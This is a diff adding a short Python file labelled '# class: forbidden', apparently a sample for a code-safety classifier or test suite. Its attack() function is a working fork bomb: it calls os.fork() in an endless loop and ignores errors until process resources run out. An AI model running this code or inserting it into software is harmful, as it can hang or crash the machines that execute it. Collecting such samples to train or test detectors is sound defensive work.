@@ -1,0 +1,10 @@
+# class: forbidden
+import os
+
+
+def attack():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
